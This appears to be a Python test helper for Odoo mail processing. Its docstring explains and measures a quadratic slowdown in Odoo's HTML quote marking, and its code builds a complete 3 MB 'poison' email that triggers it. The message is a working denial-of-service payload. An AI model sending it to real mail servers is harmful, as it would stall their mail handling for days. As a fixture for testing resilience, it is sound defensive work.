"""A message whose delivery takes hours or days: it must not delay other mail.

Odoo marks quoted text while it sanitizes HTML (``tag_quote`` in odoo/tools/mail.py). Once a child with the class
``gmail_extra`` made its parent a container of quotes, each later child asks for the list of all its siblings and for
its own place in it. With n children in one parent that is n times n steps: twice the size takes four times as long.

Measured with lxml 4.9.3, in seconds of CPU: 5 kB 0.7, 10 kB 3.5, 14 kB 6.6, 20 kB 14.3, 28 kB 24.6. So 130 kB take ten
minutes, and 3 MB some four days. All of it is Python code, which a signal can end; it needs at most about 340 MB.
"""

from email.message import EmailMessage

SIZE = 3 * 2**20

_OPENING = '<div><p class="gmail_extra"></p>\n'
_LINE = "<br>" * 18 + "\n"
_CLOSING = "</div>\n"


def poison_html(size=SIZE):
    """Return the HTML.

    :param size: about how many characters
    """
    return _OPENING + _LINE * (size // len(_LINE)) + _CLOSING


def poison_message(recipient, message_id):
    """Return a complete message, in bytes, that is about 3 MB of HTML.

    :param message_id: with its angle brackets
    """
    message = EmailMessage()
    message["From"] = "Poison <poison@customer.example>"
    message["To"] = recipient
    message["Subject"] = "Poison"
    message["Message-Id"] = message_id
    message.set_content(poison_html(), subtype="html", cte="7bit")
    return message.as_bytes().replace(b"\n", b"\r\n")
